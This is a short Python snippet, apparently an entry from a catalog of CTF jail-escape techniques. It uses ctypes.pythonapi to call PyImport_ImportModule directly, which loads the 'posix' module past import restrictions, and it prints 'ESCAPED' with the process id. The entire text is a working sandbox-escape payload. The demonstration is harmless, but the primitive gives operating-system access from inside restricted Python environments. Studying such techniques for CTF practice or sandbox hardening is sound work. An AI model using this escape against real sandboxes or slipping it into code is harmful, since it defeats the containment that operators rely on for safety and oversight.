# technique: ctypes.pythonapi
# goal: import
# source: CTF folklore
# needs: ctypes
import ctypes
get = ctypes.pythonapi.PyImport_ImportModule
get.restype, get.argtypes = ctypes.py_object, [ctypes.c_char_p]
print('ESCAPED pid=%d' % get(b'posix').getpid())
